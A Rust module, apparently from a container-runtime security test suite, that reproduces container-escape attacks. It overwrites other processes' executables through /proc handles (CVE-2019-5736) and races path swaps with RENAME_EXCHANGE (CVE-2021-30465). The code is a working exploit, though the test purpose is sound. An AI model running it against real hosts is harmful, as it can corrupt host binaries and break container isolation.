//! What a hostile program in a container does.

use crate::text;
use rustix::fs::{CWD, Mode, OFlags, RenameFlags};
use serde_json::{Value, json};
use std::collections::BTreeMap;
use std::os::fd::{AsRawFd, OwnedFd};
use std::time::{Duration, Instant};

/// CVE-2019-5736: takes a handle of every other program that runs in sight, waits
/// until none executes it any more, opens it for writing through the handle and
/// writes. Tells what became of each.
pub fn executables(seconds: u64) -> Value {
    let end = Instant::now() + Duration::from_secs(seconds);
    let mut handles: BTreeMap<(u64, u64), (String, OwnedFd, String)> = BTreeMap::new();
    let own = identity("/proc/self/exe");
    let mut looks = 0_u64;
    while Instant::now() < end {
        looks += 1;
        for path in candidates() {
            let Ok(handle) =
                rustix::fs::open(path.as_str(), OFlags::PATH | OFlags::CLOEXEC, Mode::empty())
            else {
                continue;
            };
            let Ok(stat) = rustix::fs::fstat(&handle) else {
                continue;
            };
            let key = (stat.st_dev, stat.st_ino);
            if Some(key) == own || handles.contains_key(&key) {
                continue;
            }
            let name = std::fs::read_link(&path)
                .unwrap_or_default()
                .to_string_lossy()
                .into_owned();
            handles.insert(key, (name, handle, String::new()));
        }
        overwrite(&mut handles);
    }
    let found: Vec<Value> = handles
        .iter()
        .map(|((_, inode), (name, _, result))| {
            json!({ "name": name, "inode": inode, "write": result })
        })
        .collect();
    json!({ "looks": looks, "handles": found })
}

fn candidates() -> Vec<String> {
    let processes = std::fs::read_dir("/proc").into_iter().flatten().flatten();
    processes
        .map(|entry| entry.file_name().to_string_lossy().into_owned())
        .filter(|name| name.bytes().all(|byte| byte.is_ascii_digit()))
        .filter(|name| *name != std::process::id().to_string())
        .map(|name| format!("/proc/{name}/exe"))
        .collect()
}

fn identity(path: &str) -> Option<(u64, u64)> {
    rustix::fs::stat(path)
        .ok()
        .map(|stat| (stat.st_dev, stat.st_ino))
}

/// The last result that was not "busy" stays.
fn overwrite(handles: &mut BTreeMap<(u64, u64), (String, OwnedFd, String)>) {
    for (_, handle, result) in handles.values_mut() {
        if result == "ok" {
            continue;
        }
        let path = format!("/proc/self/fd/{}", handle.as_raw_fd());
        let written = std::fs::OpenOptions::new()
            .write(true)
            .open(path)
            .and_then(|mut file| {
                std::io::Write::write_all(&mut file, b"overwritten by a container")
            });
        *result = match written {
            Ok(()) => "ok".to_owned(),
            Err(error) => text::errno(&error),
        };
    }
}

/// Exchanges `dir/name` and `dir/name.evil` without pause: the races of
/// CVE-2021-30465 and its kin.
pub fn exchange(dir: &str, name: &str, seconds: u64) -> Value {
    let end = Instant::now() + Duration::from_secs(seconds);
    let (one, two) = (format!("{dir}/{name}"), format!("{dir}/{name}.evil"));
    let mut count = 0_u64;
    while Instant::now() < end {
        let swapped = rustix::fs::renameat_with(CWD, &*one, CWD, &*two, RenameFlags::EXCHANGE);
        count += u64::from(swapped.is_ok());
    }
    json!({ "exchanged": count })
}
